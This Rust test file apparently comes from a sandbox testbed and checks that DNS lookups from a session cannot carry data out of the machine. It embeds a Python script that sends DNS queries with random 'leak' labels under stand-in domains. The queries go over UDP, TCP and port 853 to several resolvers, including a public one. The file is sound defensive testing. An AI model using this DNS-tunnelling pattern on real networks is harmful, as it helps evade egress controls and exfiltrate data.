//! What leaves the machine when names are looked up: nothing, unless a rule allows it.

use crate::for_everyone;
use crate::site::Site;
use cowork_testbed::Person;
use std::collections::BTreeMap;
use std::process::Command;
use std::time::Duration;

for_everyone!(
    not_a_byte_leaves_by_names,
    a_name_that_is_another_for_a_private_address_leads_nowhere,
    names_whose_server_is_silent_do_not_keep_others_waiting,
);

/// Says data by names, to the name server that there is, to others, and over other ways to ask.
const TELL: &str = r#"
import os, socket, struct, sys
count, tail = int(sys.argv[1]), sys.argv[2:]
def question(name, kind):
    labels = b"".join(bytes([len(l)]) + l for l in name.encode().split(b"."))
    return struct.pack(">6H", 7, 256, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", kind, 1)
def name(number, end): return "leak" + os.urandom(24).hex() + "." + os.urandom(30).hex() + "." + end
servers = ["11.22.33.7", "127.0.0.53", "8.8.8.8", "2a00:1450:7::7"]
for number in range(count):
    end = tail[number % len(tail)]
    try: socket.getaddrinfo(name(number, end), 443)
    except OSError: pass
    for server in servers:
        family = socket.AF_INET6 if ":" in server else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as line:
            for kind in (1, 16, 10, 65):
                try: line.sendto(question(name(number, end), kind), (server, 53))
                except OSError: pass
for server in servers:
    for port in (53, 853):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, kind) as line:
                    line.settimeout(0.5); line.connect((server, port))
                    asked = question(name(0, tail[0]), 16)
                    line.sendall(struct.pack(">H", len(asked)) + asked)
            except OSError: pass
print("told")
"#;

/// What has arrived in the other network, by the kernel's own count: packets and bytes of IPv4, and
/// what UDP and TCP took or refused, of either version. Neighbours that look for each other are not
/// among it.
fn arrived(site: &Site) -> BTreeMap<String, u64> {
    let pid = site.there().to_string();
    let files = ["/proc/self/net/snmp", "/proc/self/net/netstat", "/proc/self/net/snmp6"];
    let read = Command::new("nsenter").args(["-t", &pid, "-n", "cat"]).args(files).output();
    let text = String::from_utf8(read.expect("nsenter is there").stdout).expect("it is text");
    let mut counts = BTreeMap::new();
    let lines: Vec<&str> = text.lines().collect();
    for pair in lines.windows(2) {
        let (names, values) = (pair[0].split_whitespace(), pair[1].split_whitespace());
        let kind = pair[0].split(':').next().unwrap_or_default();
        if pair[1].starts_with(&format!("{kind}: ")) {
            let numbers = names.zip(values).filter_map(|(n, v)| Some((n, v.parse().ok()?)));
            counts.extend(numbers.map(|(name, value)| (format!("{kind}.{name}"), value)));
        }
    }
    for line in &lines {
        if let Some((name, value)) = line.split_once(char::is_whitespace)
            && let Ok(value) = value.trim().parse()
        {
            counts.insert(name.to_owned(), value);
        }
    }
    let kept = [
        "Ip.InReceives",
        "IpExt.InOctets",
        "Udp.InDatagrams",
        "Udp.NoPorts",
        "Tcp.InSegs",
        "Udp6InDatagrams",
        "Udp6NoPorts",
    ];
    let kept = kept.map(|name| (name.to_owned(), *counts.get(name).expect(name)));
    kept.into()
}

/// The program, for `count` names, on the host that the daemon runs on.
fn outside(site: &Site, count: &str) -> String {
    let mut command = Command::new("nsenter");
    command.args(["-t", &site.daemon(), "-n", "-m", "python3", "-c", TELL, count]);
    let said = command.args(["denied.example", "unknown.example"]).output().expect("it runs");
    String::from_utf8_lossy(&said.stdout).into_owned()
}

fn not_a_byte_leaves_by_names(person: Person) {
    // The counts are those of a whole network: nobody else may be in it.
    let site = Site::alone(person);
    let id = site.say(&["new", "--allow", "web.example", "--deny", "**.denied.example"]).good();
    let denying = id.trim().to_owned();
    let id = site.say(&["new", "--net", "ask", "--deny", "**.denied.example"]).good();
    let asking = id.trim().to_owned();
    let before = arrived(&site);
    assert_eq!(arrived(&site), before, "it is quiet");
    for session in [&denying, &asking] {
        let told = ["exec", session, "--", "python3", "-c", TELL, "2000", "denied.example"];
        let mut told: Vec<&str> = told.into();
        // Undecided, below a name that is allowed, and below one that nobody has heard of.
        told.extend(["unknown.example", "web.example", "com"]);
        assert_eq!(site.say(&told).good(), "told\n");
    }
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(arrived(&site), before, "something left the machine");
    assert!(site.arrived("leak").is_empty());
    // What is allowed gets there: the wire is one.
    let get = ["exec", &denying, "--", "curl", "-sS", "http://web.example/allowed"];
    assert_eq!(site.say(&get).good(), "hello from web.example\n");
    let before = arrived(&site);
    // On the bare host all of it arrives.
    assert_eq!(outside(&site, "20"), "told\n");
    let after = arrived(&site);
    for name in ["Ip.InReceives", "IpExt.InOctets", "Udp.InDatagrams", "Tcp.InSegs"] {
        assert!(after[name] > before[name], "{name}: {before:?} {after:?}");
    }
    let told = site.arrived("leak");
    for transport in ["udp", "tcp 53", "tcp 853"] {
        assert!(told.iter().any(|one| one["transport"] == transport), "{transport}: {told:?}");
    }
    let bytes: u64 = told.iter().filter_map(|one| one["length"].as_u64()).sum();
    assert!(bytes > 20 * 100, "{bytes}");
}

/// The name itself is allowed, and looked up: what it leads to is judged.
fn a_name_that_is_another_for_a_private_address_leads_nowhere(person: Person) {
    let site = Site::of(person);
    for (number, place) in [("1", "local"), ("2", "private"), ("3", "local")] {
        let name = format!("alias.{number}.example");
        let script = format!("curl -sS -m 10 http://{name}/aliased");
        let said = site.script(&["--allow", &name, "--deny", "denied.inward"], &script);
        assert!(said.out.contains(&format!("\"{place}-address\"")), "{name}: {said:?}");
        assert!(!site.arrived(&name).is_empty(), "the name server was asked for {name}");
    }
    assert!(site.arrived("/aliased").is_empty());
}

fn names_whose_server_is_silent_do_not_keep_others_waiting(person: Person) {
    let site = Site::of(person);
    // Each of them takes a second, and there is room for a part of them.
    let script = "for n in $(seq 120); do \
                  curl -sS -m 30 -o /dev/null -w '%{http_code} ' http://n$n.stuck.example/ & done; \
                  sleep 1; curl -sS -m 20 -o /dev/null -w 'web %{http_code} %{time_total}\n' \
                  http://web.example/while-others-are-stuck; wait";
    let said =
        site.script(&["--allow", "*.stuck.example", "--allow", "web.example"], script).good();
    let took = said.split("web 200 ").nth(1).and_then(|rest| rest.split_whitespace().next());
    let took: f64 = took.and_then(|took| took.parse().ok()).unwrap_or_else(|| panic!("{said}"));
    assert!(took < 5.0, "{took} s: {said}");
    assert_eq!(said.matches("502").count(), 120, "{said}");
}
